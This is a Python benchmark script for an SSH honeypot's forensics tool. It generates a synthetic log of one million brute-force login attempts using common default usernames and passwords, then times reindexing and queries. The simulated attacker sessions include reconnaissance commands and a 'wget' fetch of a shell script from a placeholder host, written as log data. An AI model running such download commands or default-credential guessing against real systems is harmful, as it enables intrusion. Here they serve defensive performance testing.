#!/usr/bin/python3
"""Benchmark: the analyst commands on an index of one million login attempts.

Writes a synthetic events.jsonl (100,000 brute-force sessions of 10 password attempts each,
from 5,000 addresses, with a login and a few commands in one session of 50), then times
`hermes reindex` and each query. Not a test: it prints the times; the target is under a second
per query.

usage: bench/cli_million.py HERMES_BINARY [WORKDIR]
"""

import json
import os
import random
import subprocess
import sys
import tempfile
import time

SESSIONS = 100_000
ATTEMPTS = 10


def write_log(path):
    rnd = random.Random(7)
    users = ["root", "admin", "ubuntu", "test", "oracle", "user", "pi", "git", "postgres"]
    words = [f"pass{i}" for i in range(20000)] + ["123456", "password", "admin", "toor"]
    with open(path, "w") as f:
        for s in range(SESSIONS):
            sid = f"{s:032x}"
            ip = f"10.{s % 5000 // 250}.{s % 250}.{s % 7}"
            day = 1 + s * 28 // SESSIONS
            base = {"session": sid, "src_ip": ip, "src_port": 40000 + s % 20000}

            def ev(kind, sec, **kw):
                line = {"timestamp": f"2026-10-{day:02d}T12:{sec // 60 % 60:02d}:{sec % 60:02d}."
                                     f"{s % 1000000:06d}Z", "event": kind, **base, **kw}
                f.write(json.dumps(line) + "\n")

            ev("session.connect", 0, dst_port=22)
            ev("client.version", 1, version=rnd.choice(["SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0"]))
            for a in range(ATTEMPTS):
                ev("login.failed", 2 + a, method="password", username=rnd.choice(users),
                   password=rnd.choice(words), attempt=a + 1)
            if s % 50 == 0:
                ev("login.success", 13, method="password", username="root", password="toor",
                   reason="accept_all", attempt=ATTEMPTS + 1)
                for c in ("uname -a", "cat /proc/cpuinfo", f"wget http://x/{s % 97}.sh"):
                    ev("command.input", 14, channel=0, tty=False, source="exec", command=c)
            ev("session.closed", 20, duration=20.0, reason="client_closed")


def timed(argv):
    t = time.monotonic()
    r = subprocess.run(argv, capture_output=True)
    took = time.monotonic() - t
    if r.returncode != 0:
        sys.exit(f"{argv}: exit {r.returncode}: {r.stderr.decode(errors='replace')}")
    return took


def main():
    binary = sys.argv[1]
    work = sys.argv[2] if len(sys.argv) > 2 else tempfile.mkdtemp(prefix="hermes-bench-")
    os.makedirs(f"{work}/logs", exist_ok=True)
    conf = f"{work}/hermes.yaml"
    with open(conf, "w") as f:
        f.write(f"forensics:\n  database: {work}/hermes.db\n"
                f"logging:\n  output_dir: {work}/logs\n")
    log = f"{work}/logs/events.jsonl"
    if not os.path.exists(log):
        write_log(log)
    print(f"log: {os.path.getsize(log) / 1e6:.0f} MB, {SESSIONS * ATTEMPTS} login attempts")
    cfg = ["--config", conf]
    print(f"reindex                     {timed([binary, 'reindex', *cfg]):7.2f} s")
    for args in (["sessions"], ["sessions", "--ip", "10.3.7.2"], ["sessions", "--user", "root"],
                 ["sessions", "--has-commands", "--since", "2026-10-20"],
                 ["show", f"{SESSIONS // 2:032x}"], ["stats"], ["stats", "--since", "2026-10-27"]):
        print(f"{' '.join(args):<45} {timed([binary, *args, *cfg]):7.2f} s")


if __name__ == "__main__":
    main()
